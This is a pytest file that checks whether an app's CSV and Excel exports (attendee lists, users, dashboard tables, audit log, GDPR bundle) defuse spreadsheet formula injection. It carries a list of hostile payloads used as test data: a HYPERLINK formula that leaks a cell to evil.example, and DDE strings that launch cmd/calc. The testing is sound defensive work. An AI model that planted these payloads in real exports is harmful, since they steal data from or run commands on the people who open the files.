"""Finding 4: no export hands a spreadsheet a live formula.

A buyer, a user, a sponsor or a browser's user agent that reads ``=HYPERLINK(...)`` or
``@SUM(...)`` is written by every export as text: attendee lists (CSV and Excel), the
users list, the chart tables of the marketing dashboards, the audit log's CSV and the
GDPR export bundle's CSVs. The files are read back as a spreadsheet would see them, with
the csv module and openpyxl: no text cell starts with a formula character, and no Excel
cell is a formula.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from core.audit.browse import AuditFilters, export_audit_csv
from core.gdpr.discovery import Discovery, Subject
from core.gdpr.export import write_bundle
from core.services.events import EventInput, create_event
from core.spreadsheets import FORMULA_STARTS, csv_line, csv_text, inert, table_csv, table_xlsx
from tests.apptest import keep_downloads, make_person, open_page

# What an attacker types as a name, a note or a browser's user agent.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your ticket")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


NUMBER = re.compile(r"[-+]?\d+(\.\d+)?([eE][-+]?\d+)?")


def _live(cell: object) -> bool:
    """True when a spreadsheet would run `cell` as a formula (a number such as -5.0 in a
    CSV is read as a number)."""
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)


def _csv_cells(data: bytes | str) -> list[list[str]]:
    raw = data.decode() if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(raw)))


def _assert_inert_csv(data: bytes | str, *expected: str) -> None:
    cells = _csv_cells(data)
    flat = [cell for row in cells for cell in row]
    assert not [c for c in flat if _live(c)], "a CSV cell is a live formula"
    for payload in expected:
        assert "'" + payload in flat, f"{payload!r} is not in the file as text"


def _assert_inert_xlsx(data: bytes, *expected: str) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "an Excel cell is a formula"
    assert not [c.coordinate for c in cells if _live(c.value)]
    texts = {c.value for c in cells if c.data_type == "s"}
    for payload in expected:
        # XML keeps no carriage return: the sheet reads it back as a line feed.
        assert "'" + payload.replace("\r", "\n") in texts, (
            f"{payload!r} is not in the sheet as text"
        )


# -- the one helper -------------------------------------------------------------------------


def test_text_starting_a_formula_gets_a_quote_and_nothing_else_changes() -> None:
    for payload in PAYLOADS:
        assert inert(payload) == "'" + payload
    for harmless in ("Ana Aurora", "'=quoted already", "a=b", "", "O'Neil"):
        assert inert(harmless) == harmless
    # Numbers, dates and missing values are not text: a refund of -5 stays a number.
    for value in (-5, Decimal("-5.00"), -1.5, None, True, datetime(2026, 1, 1, tzinfo=UTC)):
        assert inert(value) == value


def test_csv_quotes_every_field_so_another_separator_cannot_start_a_cell() -> None:
    line = csv_line(["x;=1+1", "a,b", 3])
    assert line == '"x;=1+1","a,b","3"\r\n'
    # A spreadsheet splitting on ";" keeps the quoted field whole.
    split = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert split[0].startswith("x;=1+1") and not any(_live(cell) for cell in split)
    _assert_inert_csv(csv_text(["name", *PAYLOADS], [{"name": p} for p in PAYLOADS]), *PAYLOADS)


def test_tables_are_inert_in_csv_and_excel_headers_included() -> None:
    table = pd.DataFrame(
        {
            "Buyer": list(PAYLOADS),
            "Refund": [-5.0] * len(PAYLOADS),
            "When": pd.to_datetime([datetime.now(UTC)] * len(PAYLOADS), utc=True),
            "=SUM(A1:A9)": ["x"] * len(PAYLOADS),
        }
    )
    _assert_inert_csv(table_csv(table), *PAYLOADS, "=SUM(A1:A9)")
    _assert_inert_xlsx(table_xlsx(table, "buyers"), *PAYLOADS, "=SUM(A1:A9)")
    sheet = load_workbook(io.BytesIO(table_xlsx(table, "buyers"))).active
    refund = sheet.cell(row=2, column=2)
    assert (refund.value, refund.data_type) == (-5, "n"), "numbers stay numbers"


# -- every export ---------------------------------------------------------------------------


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    return keep_downloads(monkeypatch)


def _event_with_orders(owner: Engine) -> uuid.UUID:
    with owner.connect() as conn:
        return conn.execute(
            text(
                "SELECT o.event_id FROM orders o JOIN order_items oi ON oi.order_id = o.id"
                " WHERE o.status = 'completed' AND oi.refunded_at IS NULL"
                " GROUP BY o.event_id ORDER BY count(*) LIMIT 1"
            )
        ).scalar_one()


def test_the_attendee_list_downloads_inert_csv_and_excel(
    owner: Engine, downloads: dict[str, bytes]
) -> None:
    event_id = _event_with_orders(owner)
    with owner.begin() as conn:
        numbers = conn.execute(
            text(
                "SELECT id FROM orders WHERE event_id = :e AND status = 'completed'"
                " ORDER BY id LIMIT :n"
            ),
            {"e": event_id, "n": len(PAYLOADS)},
        ).scalars()
        for order_id, payload in zip(numbers, PAYLOADS, strict=False):
            conn.execute(
                text("UPDATE orders SET billing_name = :n WHERE id = :o"),
                {"n": payload, "o": order_id},
            )
    staff = make_person(owner, ["admin"])
    at = open_page("attendees.py", staff)
    at.selectbox(key="att_event").set_value(str(event_id)).run()
    assert not at.exception
    csv_file = next(data for name, data in downloads.items() if name.endswith(".csv"))
    xlsx_file = next(data for name, data in downloads.items() if name.endswith(".xlsx"))
    _assert_inert_csv(csv_file, PAYLOADS[0])
    _assert_inert_xlsx(xlsx_file, PAYLOADS[0])


def test_the_users_list_downloads_inert_csv(owner: Engine, downloads: dict[str, bytes]) -> None:
    make_person(owner, ["staff"], full_name=PAYLOADS[1])
    admin = make_person(owner, ["admin"])
    at = open_page("users.py", admin)
    assert not at.exception
    _assert_inert_csv(downloads["users.csv"], PAYLOADS[1])


def test_the_chart_tables_download_inert_csv(owner: Engine, downloads: dict[str, bytes]) -> None:
    with owner.begin() as conn:
        conn.execute(text("UPDATE sponsors SET name = :n || ' ' || name"), {"n": PAYLOADS[0]})
    try:
        marketer = make_person(owner, ["marketing"])
        at = open_page("sponsor_roi.py", marketer)
        assert not at.exception
        tables = [data for name, data in downloads.items() if name.endswith(".csv")]
        assert tables, "the dashboard offers its chart tables as CSV"
        for data in tables:
            _assert_inert_csv(data)
        assert any(
            cell.startswith("'" + PAYLOADS[0]) for data in tables for row in _csv_cells(data)
            for cell in row
        ), "the sponsors' names are in the chart tables"  # fmt: skip
    finally:
        with owner.begin() as conn:
            conn.execute(
                text("UPDATE sponsors SET name = substr(name, :n)"),
                {"n": len(PAYLOADS[0]) + 2},
            )


def test_the_audit_log_exports_inert_csv(owner: Engine) -> None:
    admin = make_person(owner, ["admin"], full_name=PAYLOADS[2])
    # Anyone controls their browser's user agent, which the audit trail records.
    actor = admin.actor(user_agent=PAYLOADS[1])
    start = datetime.now(UTC) + timedelta(days=40)
    event = create_event(
        actor,
        EventInput(
            title=PAYLOADS[0],
            start_date=start,
            end_date=start + timedelta(hours=2),
            type="fashion_show",
        ),
    )
    lines = "".join(
        export_audit_csv(actor, AuditFilters(table="events", record_id=str(event.event_id)))
    )
    _assert_inert_csv(lines, PAYLOADS[1])
    rows = _csv_cells(lines)
    assert rows[1][7] == "'" + PAYLOADS[1], "the user agent column"


def test_the_gdpr_bundle_csvs_are_inert(tmp_path: Path) -> None:
    found = Discovery(
        Subject(user_id=None, emails=("someone@example.com",)),
        {
            "orders": [
                {"billing_name": PAYLOADS[0], "notes": PAYLOADS[3], "total": -5},
                {"billing_name": "Ana", "phone": PAYLOADS[2], "tags": [PAYLOADS[1]]},
            ]
        },
    )
    path = tmp_path / "bundle.zip"
    write_bundle(path, uuid.uuid4(), found)
    with zipfile.ZipFile(path) as bundle:
        data = bundle.read("orders.csv")
    _assert_inert_csv(data, PAYLOADS[0], PAYLOADS[3], PAYLOADS[2])
